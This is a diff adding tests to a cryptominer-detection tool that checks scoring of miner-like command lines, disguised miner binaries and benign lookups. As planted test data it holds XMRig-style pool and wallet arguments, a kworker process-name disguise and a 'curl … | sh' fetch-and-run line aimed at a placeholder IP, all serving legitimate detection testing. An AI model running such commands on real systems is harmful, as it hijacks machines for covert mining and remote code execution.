@@ -7,13 +7,18 @@ for.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
+from dataclasses import replace
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+from benchmarks.detection import CORPUS
 from minerwatch.config import BUILT_IN_RULES
 from minerwatch.detection import rulebook
-from minerwatch.detection.check import Recording, replayed
+from minerwatch.detection.check import Recording, recording, replayed
 from minerwatch.detection.condition import All, Any, Condition, Not, Text
 from minerwatch.detection.match import Matcher
 from minerwatch.detection.rule import Rule
@@ -130,3 +135,122 @@ def test_a_rules_own_words_as_one_argument_accuse_no_busy_program(title: str) ->
         if (text := accused(with_words(image, arguments, words)))
     }
     assert found == {}
+
+
+PLANTED = (
+    "holiday --donate-level 1.mp4",
+    "--donate-level=1",
+    "--donate-level",
+    "--randomx-mode=fast",
+    "stratum+tcp://pool.supportxmr.com:3333",
+    "--url=stratum+tcp://pool.supportxmr.com:3333",
+    "pool.supportxmr.com:3333",
+    "xmr-eu1.nanopool.org",
+    "-o stratum+tcp://pool.supportxmr.com:3333 -u x -p x",
+    "4ADT1BtbxqEWeMKp9GgPr2NeyJXXtNxvoDawpyA4WpzFcGcoHUvXeijE66DNfohE9r1bQYaBiQjEtKE7CtkTdLwiDznFzra",
+    "--wallet=4ADT1BtbxqEWeMKp9GgPr2NeyJXXtNxvoDawpyA4WpzFcGcoHUvXeijE66DNfohE9r1bQYaBiQjEtKE7CtkTdLwiDznFzra",
+    "--algo=rx/0",
+    "--mine",
+    "--nicehash",
+    "xmrig",
+    "./xmrig -c config.json",
+    "PC_Miner.py",
+    "zhash://t1ehT6CyUDNGvgp3MwQGqzjPfCjhydAQGWy.w@btg.example.com:3333",
+    "[kworker/0:1]",
+    "curl -s http://203.0.113.66/x.sh | sh",
+)
+
+BENIGN = tuple(
+    recording(line) for line in (CORPUS / "benign.jsonl").read_text(encoding="utf-8").splitlines()
+)
+BENIGN_ARGUMENTS = tuple(
+    case
+    for case in BENIGN
+    if isinstance(case.facts.get("Arguments"), tuple)
+    and case.id != "words/rg-vscode"  # it looks for an option of a miner's: one of two already
+)
+
+
+def test_one_more_argument_makes_no_benign_line_likely(
+    case: Recording, place: int, words: str
+) -> None:
+    planted = with_argument(case, place, words)
+    outcome = replayed(planted, MATCHER)
+    assert Level.of(outcome.score) <= Level.SUSPICIOUS, outcome.rules
+    assert not outcome.cullable
+
+
+@pytest.mark.parametrize("words", PLANTED)
+def test_no_benign_line_becomes_likely_by_the_best_words(words: str) -> None:
+    found = {
+        case.id: [rule.title for rule in BOOK.rules if rule.id in outcome.rules]
+        for case in BENIGN_ARGUMENTS
+        if (outcome := replayed(with_argument(case, 9, words), MATCHER)).cullable
+        or Level.of(outcome.score) > Level.SUSPICIOUS
+    }
+    assert found == {}
+
+
+READERS = ("grep", "git", "htop", "cat", "curl", "vim", "yara", "falco", "bash", "python3")
+FOLDERS = (
+    "/usr/bin",
+    "/usr/local/bin",
+    "/opt/conda/bin",
+    "/home/jovyan/.local/bin",
+    "/tmp",
+    "/bin",
+)
+MINERS = (
+    "-o pool.supportxmr.com:443 -u {} -p x --tls -k",
+    "-o 203.0.113.4:443 -u {} -p w",
+    "-o 203.0.113.4:443 --donate-level 1 --config=c.json",
+    "-a verus -o stratum+tcp://na.example.org:3956 -u RulTF4GA4Qbh6LfXSCQtvQpLR9upEmdG9r.w -p x",
+    "--algorithm randomx --pool rx.example.org:3333 --wallet {}",
+)
+MONERO = (
+    "4ADT1BtbxqEWeMKp9GgPr2NeyJXXtNxvoDawpyA4WpzFcGcoHUv"
+    "XeijE66DNfohE9r1bQYaBiQjEtKE7CtkTdLwiDznFzra"
+)
+
+
+@pytest.mark.parametrize("name", READERS)
+@pytest.mark.parametrize("folder", FOLDERS)
+def test_a_miner_named_like_a_reader_is_likely_wherever_it_lies(name: str, folder: str) -> None:
+    for arguments in MINERS:
+        line = f"{name} {arguments.format(MONERO)}"
+        facts: Facts = {"Image": f"{folder}/{name}", "Comm": name, "CommandLine": line, **BUSY}
+        outcome = replayed(Recording(1, "", HOUR_S, with_arguments(facts)), MATCHER)
+        assert Level.of(outcome.score) >= Level.LIKELY, line
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ("claude", "-p", f"ps shows ./apk -o pool.hashvault.pro:80 -u {MONERO} --donate-level 1"),
+        ("minerd", "--help"),
+        ("xmrig", "--version"),
+        ("docker", "run", "--rm", "example/xmrig", "--version"),
+        ("python3", "analyze.py", "--wallet", MONERO),
+        ("bash", "-c", f"./xmrig -o pool.supportxmr.com:443 -u {MONERO} --donate-level 1"),
+    ],
+    ids=lambda arguments: " ".join(arguments)[:40],
+)
+def test_asking_about_a_miner_is_at_most_suspicious(arguments: tuple[str, ...]) -> None:
+    facts: Facts = {
+        "Image": f"/usr/bin/{arguments[0]}",
+        "Comm": arguments[0],
+        "Arguments": arguments,
+        "CpuCores": 0.4,
+        "CpuSeconds": 240.0 if arguments[0] in ("claude", "python3") else 0.2,
+    }
+    outcome = replayed(Recording(1, "", 600, with_arguments(facts)), MATCHER)
+    assert Level.of(outcome.score) <= Level.SUSPICIOUS
+    assert not outcome.cullable
+
+
+def test_an_image_that_is_started_to_look_at_it_is_clear() -> None:
+    """As a finding of words needs CPU time, and looking needs none."""
+    arguments = ("grep", "-rn", "stratum+tcp://", ".")
+    facts: Facts = {"Image": "/usr/bin/grep", "Comm": "grep", "Arguments": arguments}
+    facts = with_arguments({**facts, "CpuCores": 0.9, "CpuSeconds": 3.0})
+    assert replayed(Recording(1, "", 3, facts), MATCHER).level == "clear"
